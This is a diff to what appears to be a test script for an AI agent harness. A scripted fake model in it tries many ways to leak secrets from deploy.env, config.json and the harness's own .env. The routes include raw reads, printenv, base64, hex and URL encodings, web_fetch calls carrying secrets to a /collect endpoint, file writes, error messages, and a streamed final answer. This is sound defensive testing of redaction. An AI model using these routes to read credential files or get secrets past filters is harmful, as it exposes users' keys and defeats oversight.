@@ -165,14 +165,14 @@ def script(web: WebServer, home: Path) -> list[Reply]:
             # A near miss: the error quotes the closest lines of the file, the secret's own.
             ("patch", {"path": "app.py", "old": "TOKEN = 'q\"uo\\\\tx'\nKEY = 'tok'", "new": ""}),
         ],
-        # 4-7: the terminal printing them raw, through printenv, and through JSON.
+        # 5-8: the terminal printing them raw, through printenv, and through JSON.
         [
             terminal("cat deploy.env config.json"),
             terminal('export LEAK="$(grep SERVICE deploy.env | cut -d= -f2-)"; printenv LEAK'),
             terminal(f"{PY} -c 'import json; print(json.dumps(open(\"config.json\").read()))'"),
             terminal(f"{PY} -c 'import json; print(json.dumps(json.load(open(\"config.json\"))))'"),
         ],
-        # 8-12: base64 at every alignment, wrapped and URL-safe; hex both cases.
+        # 9-13: base64 at every alignment, wrapped and URL-safe; hex (xxd, od).
         [
             terminal("base64 deploy.env"),
             terminal("(printf x; cat deploy.env) | base64 -w0; echo"),
@@ -184,17 +184,17 @@ def script(web: WebServer, home: Path) -> list[Reply]:
             terminal("xxd -p deploy.env; od -An -tx1 deploy.env"),
         ],
         [
+            # 14: upper-case hex; 15: URL-encoded, both forms.
             terminal(f'{PY} -c \'print(open("deploy.env","rb").read().hex().upper())\''),
-            # 13-14: URL-encoded, both forms.
             terminal(
                 f'{PY} -c \'import urllib.parse as u; t=open("deploy.env").read(); '
                 "print(u.quote(t)); print(u.quote_plus(t))'"
             ),
-            # 15: the value decoded from base64 the model "remembered".
+            # 16: the value decoded from base64 the model "remembered".
             terminal(f"echo {b64} | base64 -d"),
         ],
-        # 16-20: web requests carrying a secret: query, path (base64), user info, header
-        # smuggled in a fragment, and a redirect whose target carries it.
+        # 17-21: web requests carrying a secret: query, path (base64), user info, a hex
+        # fragment, and a redirect whose target carries it.
         [
             ("web_fetch", {"url": web.url("/collect") + "?k=" + urllib.parse.quote(QUOTED)}),
             (
@@ -212,21 +212,21 @@ def script(web: WebServer, home: Path) -> list[Reply]:
             ("web_fetch", {"url": web.url("/collect") + "#" + PATHLIKE.encode().hex()}),
             ("web_fetch", {"url": web.url("/go")}),
         ],
-        # 21-23: secrets in the arguments themselves (the ⚙ line, tool_args, the index),
+        # 22-24: secrets in the arguments themselves (the ⚙ line, tool_args, the index),
         # quoted ones included; a write of them into the workspace.
         [
             ("write_file", {"path": "notes.txt", "content": f"remember {QUOTED} and {PATHLIKE}"}),
             terminal(f"echo '{PLAIN}' > /dev/null"),
             ("read_file", {"path": "notes.txt"}),
         ],
-        # 24-25: a tool error quoting the value; reading hermes' own .env.
+        # 25-26: a tool error quoting the value; reading hermes' own .env.
         [
             terminal(f"{PY} -c 'raise SystemExit(open(\"deploy.env\").read())'"),
             ("read_file", {"path": str(home / ".env")}),
         ],
     ]
     steps = [Reply(tool_calls=calls) for calls in attempts]
-    # 26: the answer itself repeats a secret, in pieces as it streams.
+    # 27: the answer itself repeats a secret, in pieces as it streams.
     steps.append(Reply(f"Done. The token was {QUOTED} and the key {BASE64ISH}.", chunk_size=3))
     return steps
 
